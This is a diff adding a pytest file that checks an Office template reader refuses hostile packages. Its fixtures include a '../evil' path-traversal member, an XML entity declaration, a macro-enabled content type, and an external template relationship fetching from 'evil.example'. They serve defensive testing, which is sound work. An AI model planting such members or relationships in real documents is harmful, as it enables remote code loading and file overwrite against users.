@@ -1,0 +1,112 @@
+"""Packages: hostile zips are refused, changed members alone are written anew."""
+
+from __future__ import annotations
+
+import io
+import zipfile
+import zlib
+from pathlib import Path
+
+import pytest
+
+from brief_builder import BriefError, Template
+from brief_builder.office import Package, write_members
+from brief_builder.office.xml import parse
+from brief_builder.problems import Fault
+from outlines import make_docx, make_pptx
+
+ROOT = Path(__file__).resolve().parent.parent.parent
+
+
+def _zip(members: dict[str, bytes]) -> bytes:
+    data = io.BytesIO()
+    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, content in members.items():
+            archive.writestr(name, content)
+    return data.getvalue()
+
+
+def _members(data: bytes) -> dict[str, bytes]:
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        return {name: archive.read(name) for name in archive.namelist()}
+
+
+@pytest.mark.parametrize(
+    ("data", "code"),
+    [
+        (b"", "template-unreadable"),
+        (b"not a zip", "template-unreadable"),
+        (_zip({"a.txt": b"x"}), "template-unreadable"),
+        (make_docx("x")[:2000], "template-unreadable"),
+        (_zip({**_members(make_docx("x")), "../evil": b"x"}), "template-unsafe"),
+        (_zip({**_members(make_docx("x")), "word/big.bin": bytes(3_000_000)}), "template-unsafe"),
+        (_zip({**_members(make_docx("x")), "WORD/document.xml": b"x"}), "template-unsafe"),
+    ],
+)
+def test_what_is_not_a_sound_office_file_is_refused(data: bytes, code: str) -> None:
+    """Broken, foreign, or made to harm: one problem with its code, no traceback."""
+    with pytest.raises(BriefError) as caught:
+        Template.read(data, "t.docx")
+    assert [p.code for p in caught.value.problems] == [code]
+
+
+def test_a_macro_file_is_refused_by_what_it_is() -> None:
+    """A .docm, whatever its name, is not a template."""
+    members = _members(make_docx("x"))
+    members["[Content_Types].xml"] = members["[Content_Types].xml"].replace(
+        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
+        b"application/vnd.ms-word.document.macroEnabled.main+xml",
+    )
+    with pytest.raises(BriefError) as caught:
+        Template.read(_zip(members), "t.docx")
+    assert caught.value.problems[0].code == "template-unreadable"
+
+
+def test_a_remote_template_is_refused() -> None:
+    """A relationship that fetches something is named."""
+    members = _members(make_docx("x"))
+    members["word/_rels/document.xml.rels"] = members["word/_rels/document.xml.rels"].replace(
+        b"</Relationships>",
+        b'<Relationship Id="rX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+        b'attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
+    )
+    with pytest.raises(BriefError) as caught:
+        Template.read(_zip(members), "t.docx")
+    assert caught.value.problems[0].code == "template-unsafe"
+
+
+@pytest.mark.parametrize("xml", [b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>', b"<a>", b"\x00"])
+def test_document_types_and_broken_xml_are_faults(xml: bytes) -> None:
+    """No entity is ever expanded."""
+    with pytest.raises(Fault):
+        parse(xml, "part")
+
+
+@pytest.mark.parametrize("data", [make_docx("text"), make_pptx("text")])
+def test_members_are_copied_as_their_compressed_bytes(data: bytes) -> None:
+    """What comes out holds the same members with the same content, content types first."""
+    package = Package.open(data)
+    written = write_members(package.members)
+    with zipfile.ZipFile(io.BytesIO(written)) as archive:
+        assert archive.namelist()[0] == "[Content_Types].xml"
+        assert archive.testzip() is None
+    assert _members(written) == _members(data)
+    assert write_members(Package.open(written).members) == written
+
+
+def test_a_damaged_member_is_said() -> None:
+    """A checksum that does not fit is a problem, not a document with a hole."""
+    package = Package.open(make_docx("text"))
+    member = next(m for m in package.members if m.name == "word/document.xml")
+    broken = type(member)(member.name, zlib.compress(b"x")[2:-4], member.crc, member.size, 8)
+    with pytest.raises(Fault):
+        Package((broken,)).read("word/document.xml")
+
+
+@pytest.mark.parametrize("name", ["brief.docx", "deck.pptx"])
+def test_the_shipped_templates_leak_nothing(name: str) -> None:
+    """No thumbnail, no author of a library, no path of a machine in the templates."""
+    members = _members((ROOT / "templates" / name).read_bytes())
+    assert not [n for n in members if "thumbnail" in n or n.endswith(".bin")]
+    for content in members.values():
+        assert not any(word in content for word in (b"Steve Canny", b"python-docx", b"/home/", b"C:\\Users"))
